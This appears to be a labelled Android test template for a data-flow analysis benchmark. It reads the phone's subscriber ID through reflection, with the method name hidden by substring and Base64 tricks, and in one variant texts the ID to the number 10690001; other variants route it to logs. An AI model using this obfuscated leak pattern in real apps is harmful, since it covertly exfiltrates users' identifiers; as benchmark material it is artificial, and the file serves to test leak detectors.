package bench.flow.all_by_name;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;
import android.util.Base64;
import android.util.Log;
import java.lang.reflect.Constructor;
import java.lang.reflect.Field;
import java.lang.reflect.Method;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        try {
            run();
        } catch (ReflectiveOperationException error) {
            setTitle("none");
        }
    }

    private void run() throws ReflectiveOperationException {
        Object phone = getSystemService(TELEPHONY_SERVICE);
        String name = "getSubscriberId"; //: @leak
        String name = "get" + "PhoneType"; //: @clean
        String name = "callgetSubscriberIdnow".substring(4, 19); //: @cut_name
        String name = new String(Base64.decode("Z2V0U3Vic2NyaWJlcklk", Base64.DEFAULT)); //: @coded_name
        Method read = Class.forName("android.telephony.TelephonyManager").getMethod(name); //: @leak,clean,cut_name,coded_name
        Object number = read.invoke(phone); //: @leak,clean,cut_name,coded_name #source
        Class<?> messages = Class.forName("android.telephony.SmsManager"); //: @leak,clean,cut_name,coded_name
        Object sender = messages.getMethod("getDefault").invoke(null); //: @leak,clean,cut_name,coded_name
        Method send = messages.getMethod("sendTextMessage", String.class, String.class, String.class, android.app.PendingIntent.class, android.app.PendingIntent.class); //: @leak,clean,cut_name,coded_name
        send.invoke(sender, "10690001", null, "n " + number, null, null); //: @leak,clean,cut_name,coded_name #sink
        String id = ((TelephonyManager) phone).getSubscriberId(); //: @loop_methods,loop_clean,constructor,extra_by_name,static_field #plain
        for (Method step : Steps.class.getDeclaredMethods()) { //: @loop_methods,loop_clean
            if (step.getName().equals("first")) step.invoke(new Steps("x"), id); //: @loop_methods
            if (step.getName().equals("second")) step.invoke(new Steps("x"), id); //: @loop_clean
        } //: @loop_methods,loop_clean
        Constructor<?> make = Class.forName("bench.flow.all_by_name.Steps").getDeclaredConstructor(String.class); //: @constructor
        Object steps = make.newInstance(id); //: @constructor
        Field word = Steps.class.getDeclaredField("word"); //: @constructor
        word.setAccessible(true); //: @constructor
        Object word = id; //: @extra_by_name
        Bundle extras = new Bundle(); //: @extra_by_name
        Bundle.class.getMethod("putString", String.class, String.class).invoke(extras, "word", id); //: @extra_by_name
        Field shared = Steps.class.getDeclaredField("shared"); //: @static_field
        shared.set(null, id); //: @static_field
        Log.i("Bridge", "w " + word.get(steps)); //: @constructor #log
        Log.i("Bridge", "w " + extras.getString("word")); //: @extra_by_name #extra
        Log.i("Bridge", "w " + Steps.shared()); //: @static_field #static
    }
}
